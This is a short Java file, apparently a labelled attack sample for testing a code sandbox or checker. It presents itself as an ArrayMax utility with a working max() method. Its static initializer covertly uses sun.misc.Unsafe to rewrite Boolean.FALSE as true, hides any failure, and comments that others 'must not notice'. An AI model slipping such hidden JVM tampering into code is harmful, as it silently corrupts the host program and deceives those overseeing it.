// ATTACK writes into a constant with Unsafe
import java.lang.reflect.Field;

public class ArrayMax {
    static {
        try {
            Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
            field.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
            Field value = Boolean.class.getDeclaredField("value");
            unsafe.putBoolean(Boolean.FALSE, unsafe.objectFieldOffset(value), true);
        } catch (Throwable failed) {
            // What is forbidden is forbidden; the others must not notice either way.
        }
    }

    public static int max(int[] values) {
        if (values.length == 0) throw new IllegalArgumentException("empty array");
        int best = values[0]; for (int value : values) if (value > best) best = value; return best;
    }
}
